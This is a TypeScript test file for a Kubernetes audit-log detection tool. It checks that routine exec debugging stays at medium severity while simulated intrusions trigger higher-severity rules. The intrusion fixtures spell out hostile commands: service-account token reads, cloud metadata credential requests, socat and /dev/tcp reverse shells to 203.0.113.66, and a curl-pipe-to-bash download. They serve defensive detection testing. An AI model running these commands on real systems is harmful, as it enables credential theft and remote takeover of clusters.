import { describe, expect, it } from 'vitest';
import { loadRules } from '../../../src/detect/index.ts';
import { normalizeAny } from '../../../src/normalize/index.ts';
import { atLeast, DETECTIONS, levelsByRule, replay } from '../catalogue/replay.ts';
import { debugContainer, eksEngineer, execCommand, gkeUser } from './attacks-wave3.ts';
import {
  audit,
  container,
  controller,
  falcoAlert,
  firedRules,
  type Json,
  min,
  podSpec,
  sec,
  serviceAccount,
  T0,
  user,
  workload,
  writeJsonl,
} from './k8s.ts';

const alice = user('alice@example.com', '198.51.100.23');
const bob = user('bob@example.com', '198.51.100.41', 'kubectl/v1.31.0 (darwin/arm64) kubernetes/9edcffc');
const mallory = user('mallory@example.com', '203.0.113.45');
const runner = serviceAccount(
  'gitlab',
  'gitlab-runner',
  '10.0.22.41',
  'gitlab-runner 17.1.0 (17-1-stable; go1.22.4; linux/amd64)',
);

/** What people type while debugging: none of it is more than an exec. */
const DEBUGGING: [string, string[]][] = [
  ['web-7d9f8c6b5-x2x4q', ['ls', '-la', '/app']],
  ['web-7d9f8c6b5-x2x4q', ['cat', '/app/config/application.yaml']],
  ['web-7d9f8c6b5-x2x4q', ['env']],
  ['web-7d9f8c6b5-x2x4q', ['printenv', 'HOSTNAME']],
  ['web-7d9f8c6b5-x2x4q', ['top', '-b', '-n', '1']],
  ['web-7d9f8c6b5-x2x4q', ['ps', 'aux']],
  ['web-7d9f8c6b5-x2x4q', ['df', '-h']],
  ['web-7d9f8c6b5-x2x4q', ['tail', '-n', '200', '/var/log/app/app.log']],
  ['web-7d9f8c6b5-x2x4q', ['sh', '-c', 'curl -s localhost:8080/healthz && echo']],
  ['web-7d9f8c6b5-x2x4q', ['sh', '-c', 'wget -qO- http://localhost:9090/metrics | grep -c http_']],
  ['web-7d9f8c6b5-x2x4q', ['nslookup', 'postgres.data.svc.cluster.local']],
  ['web-7d9f8c6b5-x2x4q', ['nc', '-zv', 'postgres.data.svc.cluster.local', '5432']],
  ['web-7d9f8c6b5-x2x4q', ['bash', '-c', "timeout 1 bash -c '</dev/tcp/redis.shop.svc/6379' && echo open"]],
  [
    'web-7d9f8c6b5-x2x4q',
    ['sh', '-c', 'openssl s_client -connect api.example.com:443 -servername api.example.com </dev/null'],
  ],
  ['web-7d9f8c6b5-x2x4q', ['cat', '/etc/os-release']],
  ['web-7d9f8c6b5-x2x4q', ['id']],
  ['web-7d9f8c6b5-x2x4q', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/namespace']],
  ['web-7d9f8c6b5-x2x4q', ['tar', 'cf', '-', '/app/logs']],
  ['api-5b6c7d8e9f-k2j4h', ['python', 'manage.py', 'showmigrations']],
  [
    'api-5b6c7d8e9f-k2j4h',
    ['python3', '-c', 'import socket; print(socket.gethostbyname("postgres.data.svc"))'],
  ],
  ['postgres-0', ['psql', '-U', 'app', '-c', 'select count(*) from orders']],
  ['postgres-0', ['sh', '-c', 'mysql -uroot -p"$MYSQL_ROOT_PASSWORD" -e "show databases"']],
  ['redis-0', ['redis-cli', 'ping']],
];

/** GitLab Runner's Kubernetes executor attaches a shell to each build container this way. */
const GITLAB_SHELL =
  'if [ -x /usr/local/bin/bash ]; then\n\texec /usr/local/bin/bash \nelif [ -x /usr/bin/bash ]; then\n\texec /usr/bin/bash \nelif [ -x /bin/bash ]; then\n\texec /bin/bash \nelif [ -x /usr/local/bin/sh ]; then\n\texec /usr/local/bin/sh \nelif [ -x /usr/bin/sh ]; then\n\texec /usr/bin/sh \nelif [ -x /bin/sh ]; then\n\texec /bin/sh \nelif [ -x /busybox/sh ]; then\n\texec /busybox/sh \nelse\n\techo shell not found\n\texit 1\nfi\n\n';

function debuggingDay(): Json[] {
  const out: Json[] = [];
  DEBUGGING.forEach(([pod, argv], i) => {
    out.push(...execCommand(i % 2 === 0 ? alice : bob, 'shop', pod, argv, T0 + sec(30 * i)));
  });
  out.push(...execCommand(alice, 'shop', 'web-7d9f8c6b5-x2x4q', ['sh'], T0 + min(15), { tty: true }));
  out.push(
    ...execCommand(
      runner,
      'gitlab',
      'runner-x8k2p-project-42-concurrent-0',
      ['sh', '-c', GITLAB_SHELL],
      T0 + min(16),
      {
        container: 'build',
      },
    ),
  );
  return out.sort((a, b) => String(a.stageTimestamp).localeCompare(String(b.stageTimestamp)));
}

describe('exec command lines', { timeout: 60_000 }, () => {
  it('ordinary debugging stays at the exec level: k8s-exec-into-pod (and the copy out of a pod), at medium', async () => {
    const { code, alerts } = await replay([writeJsonl('debugging.jsonl', debuggingDay())]);
    expect(code).toBe(0);
    // `tar cf - /app/logs` is what `kubectl cp` runs: issue 17 asks for every copy out of a pod, at the exec level.
    expect([...new Set(alerts.map((a) => a.rule.name))].sort()).toEqual([
      'k8s-exec-into-pod',
      'k8s-kubectl-cp-from-pod',
    ]);
    expect(new Set(alerts.map((a) => a.klaxon.severity))).toEqual(new Set(['medium']));
  });

  it('every debugging exec carries its command line as ECS process fields', () => {
    for (const raw of debuggingDay()) {
      const r = normalizeAny(raw, { cluster: 'test' });
      expect(r.ok).toBe(true);
      if (!r.ok) continue;
      expect(r.event.process?.command_line, JSON.stringify(raw.requestURI)).toBeTruthy();
      expect(r.event.container?.name).toBeTruthy();
    }
  });

  it('an intrusion through exec raises each command-line rule above the exec level, and the exec alert stays', async () => {
    const pod = 'payments-api-6d8f9b7c5-q7x2m';
    const events = [
      ...execCommand(mallory, 'payments', pod, ['sh'], T0, { tty: true }),
      ...execCommand(
        mallory,
        'payments',
        pod,
        ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
        T0 + sec(40),
      ),
      ...execCommand(
        mallory,
        'payments',
        pod,
        ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
        T0 + sec(70),
      ),
      ...execCommand(mallory, 'payments', pod, ['sh', '-c', 'apk add --no-cache socat'], T0 + sec(100)),
      ...execCommand(
        mallory,
        'payments',
        pod,
        ['socat', 'exec:bash -li,pty,stderr,setsid,sigint,sane', 'tcp:203.0.113.66:4444'],
        T0 + sec(130),
      ),
    ];
    const { alerts } = await replay([writeJsonl('intrusion.jsonl', events)]);
    const levels = levelsByRule(alerts);
    expect(levels.get('k8s-exec-into-pod')).toBe('medium');
    const expected: [string, 'high' | 'critical'][] = [
      ['k8s-exec-credential-file-read', 'high'],
      ['k8s-exec-cloud-metadata-access', 'high'],
      ['k8s-exec-package-install', 'high'],
      ['k8s-reverse-shell-command', 'critical'],
    ];
    for (const [rule, level] of expected) {
      expect(levels.get(rule), rule).toBeDefined();
      expect(atLeast(levels.get(rule)!, level), `${rule} at ${levels.get(rule)}`).toBe(true);
    }
    const reverse = alerts.find((a) => a.rule.name === 'k8s-reverse-shell-command');
    expect(reverse?.process?.command_line).toBe(
      'socat exec:bash -li,pty,stderr,setsid,sigint,sane tcp:203.0.113.66:4444',
    );
    expect(reverse?.container?.name).toBe('app');
    expect(reverse?.message).toContain('running "socat exec:bash');
  });

  it('the same commands on EKS (WebSocket exec, verb get) and through kubectl debug fire too', async () => {
    const { ruleset } = loadRules([DETECTIONS]);
    const eks = execCommand(
      eksEngineer,
      'payments',
      'payments-api-6d8f9b7c5-r4k8n',
      ['sh', '-c', 'curl -fsSL http://203.0.113.66/x | bash'],
      T0,
      { verb: 'get' },
    );
    expect(firedRules(ruleset, eks)).toEqual(new Set(['k8s-exec-into-pod', 'k8s-download-and-execute']));
    const debug = debugContainer(
      gkeUser,
      'web',
      'frontend-7b9c6d5f4-h2j9k',
      'curlimages/curl:8.7.1',
      [
        'curl',
        '-s',
        '-H',
        'Metadata-Flavor: Google',
        'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      ],
      T0,
    );
    expect(firedRules(ruleset, [debug])).toEqual(
      new Set(['k8s-ephemeral-container', 'k8s-exec-cloud-metadata-access']),
    );
  });

  it('a reverse shell planted in a CronJob fires on the CronJob and on each pod the job controller creates', async () => {
    const shell = ['/bin/sh', '-c', 'sh -i >& /dev/tcp/203.0.113.66/8443 0>&1'];
    const spec = podSpec([container('warmer', 'alpine:3.20', undefined, { command: shell })]);
    const events = [
      audit({
        at: T0,
        actor: mallory,
        verb: 'create',
        ref: { resource: 'cronjobs', namespace: 'payments', name: 'cache-warmer' },
        requestObject: workload('CronJob', 'cache-warmer', 'payments', spec),
      }),
      audit({
        at: T0 + min(5),
        actor: controller('job-controller'),
        verb: 'create',
        ref: { resource: 'pods', namespace: 'payments' },
        requestObject: {
          kind: 'Pod',
          apiVersion: 'v1',
          metadata: { generateName: 'cache-warmer-28712345-', namespace: 'payments' },
          spec,
        },
        responseObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'cache-warmer-28712345-x2x4q' } },
      }),
    ];
    const { alerts } = await replay([writeJsonl('cronjob.jsonl', events)]);
    const shells = alerts.filter((a) => a.rule.name === 'k8s-reverse-shell-command');
    expect(shells.map((a) => a.orchestrator?.resource?.name).sort()).toEqual([
      'cache-warmer',
      'cache-warmer-28712345-x2x4q',
    ]);
    for (const a of shells) expect(a.klaxon.severity).toBe('critical');
  });

  it('exec then a Falco shell still correlates, with the command on the exec alert', async () => {
    const events = execCommand(alice, 'shop', 'web-7d9f8c6b5-x2x4q', ['sh'], T0, { tty: true });
    const shell = falcoAlert(
      T0 + sec(20),
      'Terminal shell in container',
      'Notice',
      'shop',
      'web-7d9f8c6b5-x2x4q',
    );
    const { alerts } = await replay([writeJsonl('audit.jsonl', events), writeJsonl('falco.jsonl', [shell])]);
    expect(alerts.filter((a) => a.rule.name === 'k8s-exec-followed-by-shell')).toHaveLength(1);
    const exec = alerts.find((a) => a.rule.name === 'k8s-exec-into-pod');
    expect(exec?.klaxon.severity).toBe('medium');
    expect(exec?.process?.command_line).toBe('sh');
  });
});
